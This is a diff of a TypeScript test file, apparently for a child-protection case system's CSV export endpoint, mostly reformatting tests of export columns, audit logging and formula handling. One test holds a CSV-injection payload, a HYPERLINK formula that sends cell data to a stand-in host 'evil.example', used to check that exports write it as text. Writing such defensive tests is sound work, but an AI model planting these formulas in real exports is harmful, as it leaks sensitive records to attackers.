@@ -21,8 +21,20 @@ beforeAll(async () => {
   const office = await createOrganisation(t, { kind: 'district_office', placeId: PLACES.gasabo });
   const ngo = await createOrganisation(t, { kind: 'ngo', placeId: PLACES.gasabo });
   supervisor = await signedIn(t, { role: 'supervisor', jurisdictionId: PLACES.gasabo, organisationId: office.id });
-  cpwo = await signedIn(t, { role: 'cpwo', jurisdictionId: PLACES.gasabo, organisationId: office.id, supervisorId: supervisor.user.id, trainingCompletedOn: '2025-01-01' });
-  cso = await signedIn(t, { role: 'cso_caseworker', jurisdictionId: PLACES.gasabo, organisationId: ngo.id, supervisorId: supervisor.user.id, trainingCompletedOn: '2025-01-01' });
+  cpwo = await signedIn(t, {
+    role: 'cpwo',
+    jurisdictionId: PLACES.gasabo,
+    organisationId: office.id,
+    supervisorId: supervisor.user.id,
+    trainingCompletedOn: '2025-01-01',
+  });
+  cso = await signedIn(t, {
+    role: 'cso_caseworker',
+    jurisdictionId: PLACES.gasabo,
+    organisationId: ngo.id,
+    supervisorId: supervisor.user.id,
+    trainingCompletedOn: '2025-01-01',
+  });
   await insertCase(t, { openedBy: cpwo.user.id, leadCaseworkerId: cso.user.id, supervisorId: supervisor.user.id, tier: 1, stage: 'implementation' });
   await insertCase(t, { openedBy: cpwo.user.id, leadCaseworkerId: cpwo.user.id, tier: 2, stage: 'assessment' });
   const other = await signedIn(t, { role: 'cpwo', jurisdictionId: PLACES.bugesera });
@@ -55,8 +67,22 @@ describe('GET /api/v1/exports/cases.csv', () => {
     expect(new Set(rows.map((r) => r.case_code)).size).toBe(BULK + 2);
     expect(rows.every((r) => r.district === '12')).toBe(true);
     expect(Object.keys(rows[0]!)).toEqual([
-      'case_code', 'child_code', 'child_name', 'date_of_birth', 'sex', 'age_at_opening', 'district', 'place', 'stage', 'tier', 'case_types',
-      'opened_at', 'closed_at', 'closure_reason', 'next_due_at', 'lead_caseworker',
+      'case_code',
+      'child_code',
+      'child_name',
+      'date_of_birth',
+      'sex',
+      'age_at_opening',
+      'district',
+      'place',
+      'stage',
+      'tier',
+      'case_types',
+      'opened_at',
+      'closed_at',
+      'closure_reason',
+      'next_due_at',
+      'lead_caseworker',
     ]);
     const opened = rows.map((r) => r.opened_at!);
     expect([...opened].sort()).toEqual(opened);
@@ -85,7 +111,10 @@ describe('GET /api/v1/exports/cases.csv', () => {
   });
 
   it('records who exported what, and how many rows, without names', async () => {
-    const before = await t.database.db.selectFrom('audit_events').select(sql<number>`max(seq)`.as('seq')).executeTakeFirstOrThrow();
+    const before = await t.database.db
+      .selectFrom('audit_events')
+      .select(sql<number>`max(seq)`.as('seq'))
+      .executeTakeFirstOrThrow();
     await client(t, cpwo.session).get('/api/v1/exports/cases.csv?tier=1');
     const entries = await t.database.db
       .selectFrom('audit_events')
@@ -106,7 +135,14 @@ describe('GET /api/v1/exports/cases.csv', () => {
 
   it('writes a child named like a formula as text, never as a live formula (CSV injection)', async () => {
     const evil = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
-    const made = await insertCase(t, { openedBy: cpwo.user.id, leadCaseworkerId: cpwo.user.id, tier: 1, stage: 'planning', givenName: evil, familyName: '+SUM(1,2)' });
+    const made = await insertCase(t, {
+      openedBy: cpwo.user.id,
+      leadCaseworkerId: cpwo.user.id,
+      tier: 1,
+      stage: 'planning',
+      givenName: evil,
+      familyName: '+SUM(1,2)',
+    });
     const res = await client(t, cpwo.session).get('/api/v1/exports/cases.csv?stage=planning');
     expect(res.statusCode).toBe(200);
     const rows = csv(res.body);
